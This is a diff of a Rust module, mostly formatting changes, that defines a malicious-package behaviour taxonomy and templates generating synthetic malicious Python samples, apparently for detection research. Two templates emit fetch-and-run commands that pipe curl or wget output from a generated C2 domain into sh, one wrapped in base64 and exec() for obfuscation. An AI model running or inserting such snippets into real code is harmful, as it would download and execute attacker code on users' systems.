@@ -25,66 +25,91 @@ pub struct BehaviorTag {
 /// The paper's taxonomy skeleton: 11 categories and their 38
 /// subcategories (Table XII).
 pub const CATEGORIES: &[(&str, &[&str])] = &[
-    ("Metadata Related", &[
-        "Package Metadata Manipulation",
-        "Version Number Deception",
-        "Fake Dependency Metadata",
-        "Author Information Spoofing",
-    ]),
-    ("Malicious Behavior", &[
-        "Privilege Escalation",
-        "Process Manipulation",
-        "System Configuration Changes",
-        "Persistence Mechanisms",
-    ]),
-    ("Dependency Library", &[
-        "System Library Abuse",
-        "Network Library Misuse",
-        "Crypto Library Exploitation",
-        "UI/Graphics Library Abuse",
-    ]),
-    ("Setup Code", &[
-        "Malicious Setup Scripts",
-        "Build Process Manipulation",
-        "Installation Hook Abuse",
-        "Configuration Tampering",
-    ]),
-    ("Network Related", &[
-        "C2 Communication",
-        "Data Exfiltration Channels",
-        "Malicious Downloads",
-        "DNS/Protocol Abuse",
-    ]),
-    ("Obfuscation & Anti-Detection", &[
-        "Code Obfuscation",
-        "Anti-Analysis Techniques",
-        "Sandbox Evasion",
-        "String/Pattern Hiding",
-    ]),
-    ("Data Exfiltration", &[
-        "Credential Theft",
-        "Environment Data Stealing",
-        "Configuration File Extraction",
-        "Sensitive Data Harvesting",
-    ]),
-    ("Code Execution", &[
-        "Shell Command Execution",
-        "Script Injection",
-        "Process Creation",
-    ]),
-    ("Application", &[
-        "Messaging Platform Abuse",
-        "Social Media API Exploitation",
-        "Cloud Service Misuse",
-        "Development Tool Abuse",
-    ]),
-    ("Malware Family", &[
-        "Known Trojan Families",
-        "Backdoor Families",
-    ]),
-    ("Other Rules", &[
-        "Unknown or Undetermined",
-    ]),
+    (
+        "Metadata Related",
+        &[
+            "Package Metadata Manipulation",
+            "Version Number Deception",
+            "Fake Dependency Metadata",
+            "Author Information Spoofing",
+        ],
+    ),
+    (
+        "Malicious Behavior",
+        &[
+            "Privilege Escalation",
+            "Process Manipulation",
+            "System Configuration Changes",
+            "Persistence Mechanisms",
+        ],
+    ),
+    (
+        "Dependency Library",
+        &[
+            "System Library Abuse",
+            "Network Library Misuse",
+            "Crypto Library Exploitation",
+            "UI/Graphics Library Abuse",
+        ],
+    ),
+    (
+        "Setup Code",
+        &[
+            "Malicious Setup Scripts",
+            "Build Process Manipulation",
+            "Installation Hook Abuse",
+            "Configuration Tampering",
+        ],
+    ),
+    (
+        "Network Related",
+        &[
+            "C2 Communication",
+            "Data Exfiltration Channels",
+            "Malicious Downloads",
+            "DNS/Protocol Abuse",
+        ],
+    ),
+    (
+        "Obfuscation & Anti-Detection",
+        &[
+            "Code Obfuscation",
+            "Anti-Analysis Techniques",
+            "Sandbox Evasion",
+            "String/Pattern Hiding",
+        ],
+    ),
+    (
+        "Data Exfiltration",
+        &[
+            "Credential Theft",
+            "Environment Data Stealing",
+            "Configuration File Extraction",
+            "Sensitive Data Harvesting",
+        ],
+    ),
+    (
+        "Code Execution",
+        &[
+            "Shell Command Execution",
+            "Script Injection",
+            "Process Creation",
+        ],
+    ),
+    (
+        "Application",
+        &[
+            "Messaging Platform Abuse",
+            "Social Media API Exploitation",
+            "Cloud Service Misuse",
+            "Development Tool Abuse",
+        ],
+    ),
+    (
+        "Malware Family",
+        &["Known Trojan Families", "Backdoor Families"],
+    ),
+    ("Other Rules", &["Unknown or Undetermined"]),
 ];
 
 /// A code-behavior template.
@@ -119,35 +144,107 @@ macro_rules! behavior {
 
 /// The full behavior catalog, indexed by families.
 pub static BEHAVIORS: &[Behavior] = &[
-    behavior!("Malicious Behavior", "Privilege Escalation", privilege_escalation),
-    behavior!("Malicious Behavior", "Process Manipulation", process_manipulation),
-    behavior!("Malicious Behavior", "System Configuration Changes", system_config_changes),
+    behavior!(
+        "Malicious Behavior",
+        "Privilege Escalation",
+        privilege_escalation
+    ),
+    behavior!(
+        "Malicious Behavior",
+        "Process Manipulation",
+        process_manipulation
+    ),
+    behavior!(
+        "Malicious Behavior",
+        "System Configuration Changes",
+        system_config_changes
+    ),
     behavior!("Malicious Behavior", "Persistence Mechanisms", persistence),
-    behavior!("Dependency Library", "System Library Abuse", system_library_abuse),
-    behavior!("Dependency Library", "Network Library Misuse", network_library_misuse),
-    behavior!("Dependency Library", "Crypto Library Exploitation", crypto_exploitation),
-    behavior!("Dependency Library", "UI/Graphics Library Abuse", ui_library_abuse),
-    behavior!("Setup Code", "Malicious Setup Scripts", malicious_setup_script),
-    behavior!("Setup Code", "Build Process Manipulation", build_process_manipulation),
+    behavior!(
+        "Dependency Library",
+        "System Library Abuse",
+        system_library_abuse
+    ),
+    behavior!(
+        "Dependency Library",
+        "Network Library Misuse",
+        network_library_misuse
+    ),
+    behavior!(
+        "Dependency Library",
+        "Crypto Library Exploitation",
+        crypto_exploitation
+    ),
+    behavior!(
+        "Dependency Library",
+        "UI/Graphics Library Abuse",
+        ui_library_abuse
+    ),
+    behavior!(
+        "Setup Code",
+        "Malicious Setup Scripts",
+        malicious_setup_script
+    ),
+    behavior!(
+        "Setup Code",
+        "Build Process Manipulation",
+        build_process_manipulation
+    ),
     behavior!("Setup Code", "Installation Hook Abuse", install_hook_abuse),
     behavior!("Setup Code", "Configuration Tampering", config_tampering),
     behavior!("Network Related", "C2 Communication", c2_communication),
-    behavior!("Network Related", "Data Exfiltration Channels", exfil_channel),
+    behavior!(
+        "Network Related",
+        "Data Exfiltration Channels",
+        exfil_channel
+    ),
     behavior!("Network Related", "Malicious Downloads", malicious_download),
     behavior!("Network Related", "DNS/Protocol Abuse", dns_abuse),
-    behavior!("Obfuscation & Anti-Detection", "Code Obfuscation", code_obfuscation),
-    behavior!("Obfuscation & Anti-Detection", "Anti-Analysis Techniques", anti_analysis),
-    behavior!("Obfuscation & Anti-Detection", "Sandbox Evasion", sandbox_evasion),
-    behavior!("Obfuscation & Anti-Detection", "String/Pattern Hiding", string_hiding),
+    behavior!(
+        "Obfuscation & Anti-Detection",
+        "Code Obfuscation",
+        code_obfuscation
+    ),
+    behavior!(
+        "Obfuscation & Anti-Detection",
+        "Anti-Analysis Techniques",
+        anti_analysis
+    ),
+    behavior!(
+        "Obfuscation & Anti-Detection",
+        "Sandbox Evasion",
+        sandbox_evasion
+    ),
+    behavior!(
+        "Obfuscation & Anti-Detection",
+        "String/Pattern Hiding",
+        string_hiding
+    ),
     behavior!("Data Exfiltration", "Credential Theft", credential_theft),
-    behavior!("Data Exfiltration", "Environment Data Stealing", env_stealing),
-    behavior!("Data Exfiltration", "Configuration File Extraction", config_extraction),
-    behavior!("Data Exfiltration", "Sensitive Data Harvesting", data_harvesting),
+    behavior!(
+        "Data Exfiltration",
+        "Environment Data Stealing",
+        env_stealing
+    ),
+    behavior!(
+        "Data Exfiltration",
+        "Configuration File Extraction",
+        config_extraction
+    ),
+    behavior!(
+        "Data Exfiltration",
+        "Sensitive Data Harvesting",
+        data_harvesting
+    ),
     behavior!("Code Execution", "Shell Command Execution", shell_execution),
     behavior!("Code Execution", "Script Injection", script_injection),
     behavior!("Code Execution", "Process Creation", process_creation),
     behavior!("Application", "Messaging Platform Abuse", messaging_abuse),
-    behavior!("Application", "Social Media API Exploitation", social_media_abuse),
+    behavior!(
+        "Application",
+        "Social Media API Exploitation",
+        social_media_abuse
+    ),
     behavior!("Application", "Cloud Service Misuse", cloud_misuse),
     behavior!("Application", "Development Tool Abuse", devtool_abuse),
     behavior!("Malware Family", "Known Trojan Families", trojan_family),
@@ -156,7 +253,9 @@ pub static BEHAVIORS: &[Behavior] = &[
 
 /// Finds a behavior index by subcategory name.
 pub fn behavior_index(subcategory: &str) -> Option<usize> {
-    BEHAVIORS.iter().position(|b| b.tag.subcategory == subcategory)
+    BEHAVIORS
+        .iter()
+        .position(|b| b.tag.subcategory == subcategory)
 }
 
 // ---- template functions ----
@@ -290,9 +389,7 @@ fn dns_abuse(rng: &mut StdRng) -> String {
 
 fn code_obfuscation(rng: &mut StdRng) -> String {
     let host = naming::c2_domain(rng);
-    let inner = format!(
-        "import os;os.system('curl -s https://{host}/stage2 | sh')"
-    );
+    let inner = format!("import os;os.system('curl -s https://{host}/stage2 | sh')");
     let encoded = digest::base64::encode(inner.as_bytes());
     format!("import base64\nexec(base64.b64decode('{encoded}'))\n")
 }
@@ -358,9 +455,7 @@ fn shell_execution(rng: &mut StdRng) -> String {
     let f = naming::ident(rng);
     let host = naming::c2_domain(rng);
     let tool = naming::pick(rng, &["curl -s", "wget -qO-"]);
-    format!(
-        "def {f}():\n    import os\n    os.system('{tool} https://{host}/run.sh | sh')\n"
-    )
+    format!("def {f}():\n    import os\n    os.system('{tool} https://{host}/run.sh | sh')\n")
 }
 
 fn script_injection(rng: &mut StdRng) -> String {
